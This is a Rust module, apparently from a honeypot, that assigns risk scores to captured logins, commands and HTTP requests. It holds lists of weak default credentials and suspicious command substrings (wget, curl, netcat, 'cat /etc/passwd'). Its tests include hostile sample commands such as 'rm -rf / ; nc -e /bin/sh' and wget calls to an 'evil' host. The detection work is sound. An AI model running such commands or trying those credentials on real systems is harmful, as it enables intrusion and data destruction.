//! Table-driven risk scoring.
//!
//! Additive contributions, each applied at most once, saturating at 100. Adding a rule means
//! adding a row to [`WEAK_CREDENTIALS`] or [`SUSPICIOUS_COMMAND_SUBSTRINGS`] below, never
//! touching the scoring function itself.

use crate::event::{EventType, Payload, RiskLevel, Service};

/// Well-known weak `(username, password)` pairs. Checked for equality, not substring.
pub const WEAK_CREDENTIALS: &[(&str, &str)] = &[
    ("admin", "admin"),
    ("root", "root"),
    ("admin", "1234"),
    ("admin", "password"),
    ("root", "password"),
    ("user", "user"),
    ("test", "test"),
    ("guest", "guest"),
    ("support", "support"),
];

/// Substrings that, if present anywhere in a captured command line, flag it as suspicious.
pub const SUSPICIOUS_COMMAND_SUBSTRINGS: &[&str] = &[
    "wget",
    "curl",
    "chmod",
    "rm ",
    "mkdir",
    "cd /",
    "passwd",
    "cat /etc/passwd",
    "chroot",
    "dd if=",
    "nc ",
    "netcat",
    "python -c",
    "perl -e",
    "php ",
    "exec ",
    "eval(",
    "base64 -d",
];

/// URL substrings that mark an HTTP request as targeting a sensitive path.
pub const SENSITIVE_HTTP_PATHS: &[&str] = &["/admin", "/config", "/login", "/shell", "/cmd"];

/// User-Agent substrings identifying known scanning tools.
pub const SCANNER_USER_AGENTS: &[&str] = &["sqlmap", "nikto", "nessus"];

/// Computes the additive, saturating risk score for a single raw capture's enrichment inputs.
///
/// Every contribution is applied at most once regardless of how many ways it could match (e.g. a
/// command matching two suspicious substrings still only adds 25, not 50).
pub fn score(service: Service, event_type: &EventType, payload: &Payload) -> u8 {
    let mut total: u32 = 0;

    if let (Some(username), Some(password)) = (payload.username.as_deref(), payload.password.as_deref()) {
        if WEAK_CREDENTIALS
            .iter()
            .any(|(u, p)| u.eq_ignore_ascii_case(username) && *p == password)
        {
            total += 30;
        }

        if username.eq_ignore_ascii_case("root") || username.eq_ignore_ascii_case("admin") {
            total += 20;
        }

        if username.is_empty() || password.is_empty() {
            total += 10;
        }
    }

    match service {
        Service::Ssh => total += 10,
        Service::Telnet => total += 15,
        Service::Http | Service::Mqtt | Service::Camera => {}
    }

    if matches!(event_type, EventType::Command) {
        total += 20;

        if let Some(command) = payload.command.as_deref() {
            let command_lower = command.to_ascii_lowercase();
            if SUSPICIOUS_COMMAND_SUBSTRINGS
                .iter()
                .any(|needle| command_lower.contains(needle))
            {
                total += 25;
            }
        }
    }

    if let Some(path) = payload.path.as_deref() {
        if SENSITIVE_HTTP_PATHS.iter().any(|needle| path.contains(needle)) {
            total += 20;
        }
    }

    if let Some(user_agent) = payload.user_agent.as_deref() {
        let ua_lower = user_agent.to_ascii_lowercase();
        if SCANNER_USER_AGENTS.iter().any(|needle| ua_lower.contains(needle)) {
            total += 30;
        }
    }

    u8::try_from(total.min(100)).expect("clamped to 0..=100")
}

/// Deterministic bucket derivation. The only place `risk_level` is computed.
pub fn risk_level(score: u8) -> RiskLevel {
    match score {
        0..=19 => RiskLevel::Info,
        20..=39 => RiskLevel::Low,
        40..=69 => RiskLevel::Medium,
        _ => RiskLevel::High,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn payload_with_creds(username: &str, password: &str) -> Payload {
        Payload {
            username: Some(username.to_owned()),
            password: Some(password.to_owned()),
            ..Default::default()
        }
    }

    #[test]
    fn weak_ssh_credential_matches_scenario_s1() {
        let payload = payload_with_creds("admin", "admin");
        let got = score(Service::Ssh, &EventType::AuthAttempt, &payload);
        // 30 weak-pair + 20 admin + 10 ssh = 60
        assert_eq!(got, 60);
        assert!(got >= 50);
    }

    #[test]
    fn http_scanner_matches_scenario_s2() {
        let payload = Payload {
            path: Some("/admin".to_owned()),
            user_agent: Some("sqlmap/1.7".to_owned()),
            ..Default::default()
        };
        let got = score(Service::Http, &EventType::HttpRequest, &payload);
        // 20 sensitive path + 30 scanner UA = 50
        assert_eq!(got, 50);
        assert!(got >= 50);
    }

    #[test]
    fn score_saturates_at_100() {
        let payload = Payload {
            username: Some(String::new()),
            password: Some(String::new()),
            command: Some("wget http://evil/x; curl http://evil/y".to_owned()),
            ..Default::default()
        };
        // empty creds (10) + ssh (10) + command (20) + suspicious (25) = 65, well under 100;
        // exercise the saturating path with a second suspicious command event.
        let first = score(Service::Ssh, &EventType::Command, &payload);
        assert!(first <= 100);

        let extreme = Payload {
            username: Some(String::new()),
            password: Some(String::new()),
            command: Some("rm -rf / ; nc -e /bin/sh".to_owned()),
            path: Some("/admin/config/login".to_owned()),
            user_agent: Some("sqlmap nikto nessus".to_owned()),
            ..Default::default()
        };
        let got = score(Service::Telnet, &EventType::Command, &extreme);
        assert_eq!(got, 100);
    }

    #[test]
    fn command_bonus_applies_once() {
        // A command matching several suspicious substrings still only adds 25, not more.
        let payload = Payload {
            command: Some("wget http://x; curl http://y; chmod 777 z".to_owned()),
            ..Default::default()
        };
        let got = score(Service::Http, &EventType::Command, &payload);
        // 20 command + 25 suspicious (once) = 45
        assert_eq!(got, 45);
    }

    #[test]
    fn risk_level_buckets_are_deterministic() {
        assert_eq!(risk_level(0), RiskLevel::Info);
        assert_eq!(risk_level(19), RiskLevel::Info);
        assert_eq!(risk_level(20), RiskLevel::Low);
        assert_eq!(risk_level(39), RiskLevel::Low);
        assert_eq!(risk_level(40), RiskLevel::Medium);
        assert_eq!(risk_level(69), RiskLevel::Medium);
        assert_eq!(risk_level(70), RiskLevel::High);
        assert_eq!(risk_level(100), RiskLevel::High);
    }
}
